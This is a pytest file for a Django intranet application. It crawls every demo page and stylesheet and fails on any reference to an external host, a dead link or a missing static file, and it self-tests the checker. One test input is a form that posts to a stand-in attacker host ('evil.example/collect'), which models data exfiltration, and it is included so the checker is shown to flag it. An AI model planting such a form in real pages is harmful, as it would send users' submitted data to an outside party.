"""Every page of the demo loads from this server alone: no CDN, no external host.

Deployments run on government intranets with no internet, so a page that pulls a
font, a script or a stylesheet from another host is broken there. The test loads the
demo data, signs in as every demo account and crawls, breadth-first, every page
reachable by GET links and GET forms from the workbench (plus the API docs and
the sign-in, second-factor and error pages). It fails on a server error,
a dead link, any ``src``/``href``/``action``/CSS ``url()``/``@import`` that names
another host, and any static file that is referenced but does not exist. The static
CSS files (vendor and project) are checked the same way, comments stripped.
"""

import re
from collections import Counter
from html.parser import HTMLParser
from urllib.parse import parse_qsl, urlencode, urljoin, urlsplit

import pytest
from django.conf import settings
from django.contrib.staticfiles import finders
from django.urls import Resolver404, resolve

from gongzhi.core.testing import sign_in

HOST = "testserver"
MAX_PAGES_PER_ROLE = 300
MAX_PAGES_PER_ROUTE = 3  # enough variants of one page; keeps the crawl spread over all pages
MAX_EXPORTS_PER_ROUTE = 1  # an export is the list's rows in a workbook: one per list suffices
URL_ATTRIBUTES = {
    "src",
    "href",
    "action",
    "formaction",
    "poster",
    "data",
    "srcset",
    "xlink:href",
    "background",
    "manifest",
    "hx-get",
    "hx-post",
    "hx-put",
    "hx-patch",
    "hx-delete",
    "data-url",
}
SAFE_SCHEMES = {"data", "javascript", "mailto", "tel", "about", "blob"}
SKIP_PATH_WORDS = ("logout",)


# --- Parsing ------------------------------------------------------------------


def strip_css_comments(css: str) -> str:
    """Remove ``/* ... */`` comments, leaving string literals (which may hold ``/*``) intact."""
    out, i, n = [], 0, len(css)
    while i < n:
        ch = css[i]
        if ch in "\"'":
            end = i + 1
            while end < n and css[end] != ch:
                end += 2 if css[end] == "\\" else 1
            out.append(css[i : end + 1])
            i = end + 1
        elif css.startswith("/*", i):
            end = css.find("*/", i + 2)
            i = n if end < 0 else end + 2
            out.append(" ")
        else:
            out.append(ch)
            i += 1
    return "".join(out)


CSS_URL = re.compile(r"""url\(\s*(?:"([^"]*)"|'([^']*)'|([^)'"\s]*))\s*\)""", re.IGNORECASE)
CSS_IMPORT = re.compile(r"""@import\s+(?:"([^"]*)"|'([^']*)')""", re.IGNORECASE)


def css_references(css: str) -> list[str]:
    """Every URL a stylesheet (or a style attribute) would fetch."""
    css = strip_css_comments(css)
    found = [next(g for g in m.groups() if g is not None) for m in CSS_URL.finditer(css)]
    found += [m.group(1) or m.group(2) for m in CSS_IMPORT.finditer(css)]
    return [u.strip() for u in found if u.strip()]


class PageParser(HTMLParser):
    """Collects every URL a page references, the links to follow and its GET forms."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.references: list[tuple[str, str]] = []  # (where, url)
        self.links: list[str] = []
        self.forms: list[dict] = []
        self._form: dict | None = None
        self._select: str | None = None
        self._style = False
        self._meta_refresh: list[str] = []

    def handle_starttag(self, tag, attrs):
        attrs_d = dict(attrs)
        for name, value in attrs:
            if value is None:
                continue
            if name in URL_ATTRIBUTES:
                values = (
                    [part.strip().split(" ")[0] for part in value.split(",")]
                    if name == "srcset"
                    else [value.strip()]
                )
                self.references += [(f"<{tag} {name}>", v) for v in values]
            elif name == "style":
                self.references += [(f"<{tag} style>", u) for u in css_references(value)]
        if tag == "meta" and (attrs_d.get("http-equiv") or "").lower() == "refresh":
            match = re.search(r"url=(.+)", attrs_d.get("content") or "", re.IGNORECASE)
            if match:
                self.references.append(("<meta refresh>", match.group(1).strip("'\" ")))
        if tag == "a" and attrs_d.get("href"):
            self.links.append(attrs_d["href"])
        elif tag == "form":
            self._form = {
                "method": (attrs_d.get("method") or "get").lower(),
                "action": attrs_d.get("action") or "",
                "fields": [],
            }
            self.forms.append(self._form)
        elif tag == "input" and self._form is not None and attrs_d.get("name"):
            kind = (attrs_d.get("type") or "text").lower()
            if kind in {"checkbox", "radio"} and "checked" not in attrs_d:
                return
            if kind not in {"submit", "button", "image", "file", "reset"}:
                self._form["fields"].append([attrs_d["name"], attrs_d.get("value") or ""])
        elif tag == "select" and self._form is not None and attrs_d.get("name"):
            self._select = attrs_d["name"]
            self._form["fields"].append([self._select, None])
        elif tag == "option" and self._select is not None:
            field = self._form["fields"][-1]
            if field[1] is None or "selected" in attrs_d:
                field[1] = attrs_d.get("value") or ""
        elif tag == "style":
            self._style = True

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None
        elif tag == "style":
            self._style = False

    def handle_data(self, data):
        if self._style:
            self.references += [("<style>", u) for u in css_references(data)]


# --- Checks -------------------------------------------------------------------


def is_external(url: str) -> bool:
    """True when ``url`` would make the browser contact a host other than this server."""
    url = url.strip()
    if not url or url.startswith("#"):
        return False
    parts = urlsplit(url)
    if parts.scheme and parts.scheme.lower() in SAFE_SCHEMES:
        return False
    if url.startswith("//") or parts.netloc:
        return parts.hostname != HOST
    # "http:foo" or any other scheme with no host still leaves the page.
    return bool(parts.scheme)


def missing_static(url: str) -> str | None:
    """The static path of ``url`` if it points under STATIC_URL at a file nobody serves."""
    path = urlsplit(url).path
    if not path.startswith(settings.STATIC_URL):
        return None
    relative = path[len(settings.STATIC_URL) :]
    return None if finders.find(relative) else relative


def static_css_files() -> dict[str, str]:
    """Every CSS file the static finders serve: static path → file system path."""
    files = {}
    for finder in finders.get_finders():
        for relative, storage in finder.list(["*.map", "*.js", "*.woff*", "*.png", "*.svg"]):
            if relative.endswith(".css"):
                files.setdefault(relative.replace("\\", "/"), storage.path(relative))
    return files


def check_css_file(static_path: str, text: str) -> list[str]:
    problems = []
    base = settings.STATIC_URL + static_path
    for ref in css_references(text):
        if is_external(ref):
            problems.append(f"{static_path}: external url {ref}")
            continue
        if urlsplit(ref).scheme:
            continue  # data: URIs
        target = urljoin(base, ref)
        missing = missing_static(target)
        if missing:
            problems.append(f"{static_path}: references missing static file {missing}")
    return problems


def page_problems(url: str, html: str) -> list[str]:
    parser = PageParser()
    parser.feed(html)
    return reference_problems(url, parser)


def reference_problems(url: str, parser: PageParser) -> list[str]:
    problems = []
    for where, ref in parser.references:
        if is_external(ref):
            problems.append(f"{url}: {where} points to another host: {ref}")
            continue
        missing = missing_static(urljoin(url, ref))
        if missing:
            problems.append(f"{url}: {where} references missing static file {missing}")
    return problems


# --- The crawl ------------------------------------------------------------------


def route_of(path: str) -> str | None:
    try:
        match = resolve(path)
    except Resolver404:
        return None
    return match.view_name or match.route


def normalise(base: str, link: str) -> str | None:
    """An absolute path+query on this server, or None for links not to follow."""
    link = link.strip()
    if not link or link.startswith("#") or is_external(link):
        return None
    parts = urlsplit(urljoin(base, link))
    if parts.scheme and parts.scheme not in {"http", "https"}:
        return None
    if parts.path.startswith(settings.STATIC_URL):
        return None
    query = urlencode(sorted(parse_qsl(parts.query, keep_blank_values=True)))
    return parts.path + (f"?{query}" if query else "")


def is_export(url: str) -> bool:
    return any(key == "export" for key, _ in parse_qsl(urlsplit(url).query))


def route_key(url: str) -> str:
    route = route_of(urlsplit(url).path) or "(unresolved)"
    return f"{route} (export)" if is_export(url) else route


class Frontier:
    """Pages waiting to be fetched, taken so that every kind of page gets its turn.

    Plain breadth-first order spends the budget on the first level of the area tree;
    here the next page is always of the least-visited route (round robin over page
    kinds), and within one route the most recently found link (which drills down the
    tree: district → street → … → unit → household).
    """

    def __init__(self, seeds):
        self.pending: dict[str, list[tuple[str, str]]] = {}
        self.visits: Counter = Counter()
        self.seen: set[str] = set()
        for seed in seeds:
            self.add(seed, "(start)")

    def add(self, url: str, referrer: str) -> None:
        if url not in self.seen:
            self.seen.add(url)
            self.pending.setdefault(route_key(url), []).append((url, referrer))

    def next(self):
        open_routes = [
            r
            for r, items in self.pending.items()
            if items
            and self.visits[r]
            < (MAX_EXPORTS_PER_ROUTE if r.endswith("(export)") else MAX_PAGES_PER_ROUTE)
        ]
        if not open_routes:
            return None
        route = min(open_routes, key=lambda r: self.visits[r])
        self.visits[route] += 1
        return self.pending[route].pop()


def crawl(
    client, seeds: list[str], label: str, pages: list[str] | None = None
) -> tuple[list[str], Counter, int]:
    """Follow GET links and GET forms; returns problems, pages per route and pages seen.
    The URLs of the HTML pages it read are appended to ``pages`` when given."""
    problems: list[str] = []
    client.raise_request_exception = False  # a crash is reported with its URL, crawl goes on
    frontier = Frontier(seeds)
    visited = 0
    while visited < MAX_PAGES_PER_ROLE and (item := frontier.next()) is not None:
        url, referrer = item
        visited += 1
        response = client.get(url)
        status = response.status_code
        where = f"[{label}] {url} (linked from {referrer})"
        if status >= 500:
            problems.append(f"{where}: server error {status}")
            continue
        if is_export(url):
            if status == 302 and re.fullmatch(r"/exports/\d+/", response["Location"]):
                # A long list goes to the worker: its job's page is crawled like any other.
                frontier.add(response["Location"], url)
                continue
            if status != 200 or "spreadsheetml" not in response.get("Content-Type", ""):
                problems.append(f"{where}: export answered {status} {response.get('Content-Type')}")
            continue
        if status in (301, 302, 303, 307, 308):
            location = response["Location"]
            if is_external(location):
                problems.append(f"{where}: redirects to another host {location}")
            elif target := normalise(url, location):
                frontier.add(target, url)
            continue
        if status >= 400 and referrer != "(start)":
            problems.append(f"{where}: dead link, status {status}")
            continue
        if "text/html" not in response.get("Content-Type", ""):
            continue
        if pages is not None:
            pages.append(url)
        parser = PageParser()
        parser.feed(response.content.decode(response.charset or "utf-8"))
        problems += [f"[{label}] {p}" for p in reference_problems(url, parser)]
        candidates = list(parser.links)
        for form in parser.forms:
            if form["method"] == "get":
                query = urlencode([(k, v or "") for k, v in form["fields"]])
                action = form["action"] or url.split("?")[0]
                candidates.append(f"{action}?{query}" if query else action)
        for link in candidates:
            target = normalise(url, link)
            if target is not None and not any(w in target for w in SKIP_PATH_WORDS):
                frontier.add(target, url)
    return problems, frontier.visits, visited


def pages_outside_the_workbench(client) -> list[tuple[str, object]]:
    """Sign-in, second factor (verify and enrol), error pages and the API docs."""
    from gongzhi.accounts.models import User

    pages = []
    client.logout()
    for url in ("/accounts/login/", "/api/v1/docs", "/no-such-page/"):
        pages.append((url, client.get(url)))
    jiedao = User.objects.get(username="jiedao")
    sign_in(client, jiedao, verified=False)  # has a demo device: the verification form
    pages.append(("two-factor (verify)", client.get("/accounts/two-factor/")))
    jiedao.totpdevice_set.all().delete()  # no device yet: enrolment with the QR code
    pages.append(("two-factor (enrol)", client.get("/accounts/two-factor/")))
    assert "<svg" in pages[-1][1].content.decode()  # the enrolment page really rendered
    sign_in(client, User.objects.get(username="shuji"))
    pages.append(("404 signed in", client.get("/areas/999999999/")))
    return pages


@pytest.mark.slow
def test_every_page_of_the_demo_stays_on_this_server(demo, client):
    """One test, so the (large) demo is loaded once: every account, then the other pages."""
    usernames = {u.username for u in demo}
    assert {"sysadmin", "quadmin", "jiedao", "shuji", "wanggeyuan", "shenji"} <= usernames
    problems: list[str] = []
    coverage = {}
    for user in demo:
        client.logout()
        sign_in(client, user)
        seeds = ["/", "/api/v1/docs"]
        found, per_route, visited = crawl(client, seeds, user.username)
        problems += found
        coverage[user.username] = (per_route, visited)
    for label, response in pages_outside_the_workbench(client):
        if response.status_code >= 500:
            problems.append(f"{label}: server error {response.status_code}")
        problems += page_problems(label, response.content.decode())
    assert not problems, f"{len(problems)} problems:\n" + "\n".join(problems[:80])
    # The crawl really walked the application, not just a redirect to the sign-in page.
    secretary_routes, visited = coverage["shuji"]
    assert visited > 20
    for route in (
        "core:workbench",
        "areas:area_detail",
        "areas:household_list",
        "areas:household_detail",
        "areas:household_create",
        "accounts:password_change",
        "accounts:tokens",
        "api:openapi-view",
        "areas:household_list (export)",
    ):
        assert secretary_routes[route], f"shuji never reached {route}: {secretary_routes}"


def test_static_stylesheets_reference_only_local_files():
    files = static_css_files()
    assert "vendor/bootstrap/bootstrap.min.css" in files
    assert "vendor/bootstrap-icons/bootstrap-icons.min.css" in files
    assert "gongzhi/app.css" in files
    problems = []
    for static_path, fs_path in sorted(files.items()):
        with open(fs_path, encoding="utf-8", errors="replace") as fh:
            problems += check_css_file(static_path, fh.read())
    assert not problems, "\n".join(problems)


# --- The checker itself must catch what it is meant to catch --------------------


@pytest.mark.parametrize(
    "html",
    [
        '<link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/bootstrap.min.css">',
        '<script src="//unpkg.com/htmx.org"></script>',
        '<img srcset="/static/a.png 1x, http://example.com/a@2x.png 2x">',
        '<form action="http://evil.example/collect" method="post"></form>',
        "<div style=\"background: url('https://example.com/bg.png')\"></div>",
        "<style>@import 'https://fonts.googleapis.com/css?family=Noto';</style>",
        "<style>body { background: url(//example.com/x.png) }</style>",
        '<a hx-get="https://api.example.com/x">x</a>',
        '<script src="/static/vendor/does-not-exist.js"></script>',
    ],
)
def test_checker_flags_external_and_missing_references(html):
    assert page_problems("/", html)


@pytest.mark.parametrize(
    "html",
    [
        '<link rel="stylesheet" href="/static/vendor/bootstrap/bootstrap.min.css">',
        '<a href="/areas/?q=x#top">x</a><a href="mailto:a@b.cn">m</a>',
        '<svg xmlns="http://www.w3.org/2000/svg"></svg>',
        '<img src="data:image/png;base64,AAAA">',
        '<a href="http://testserver/areas/">same host</a>',
    ],
)
def test_checker_accepts_local_references(html):
    assert page_problems("/", html) == []


def test_css_comments_are_ignored_but_rules_are_checked():
    licence = "/*! Bootstrap | https://getbootstrap.com | url(https://x.example/y.png) */"
    assert check_css_file("vendor/x.css", licence + "a{color:red}") == []
    assert check_css_file("vendor/x.css", "a{background:url(https://x.example/y.png)}")
    assert check_css_file("vendor/x.css", '@import "http://x.example/a.css";')
    # A string that looks like a comment opener does not hide the rule after it.
    assert check_css_file("x.css", 'a{content:"/*"}b{background:url(//x.example/b.png)}')
    assert check_css_file("x.css", "a{background:url(missing-image.png)}")
    assert not check_css_file(
        "vendor/bootstrap-icons/bootstrap-icons.min.css",
        '@font-face{src:url("fonts/bootstrap-icons.woff2?abc") format("woff2")}',
    )
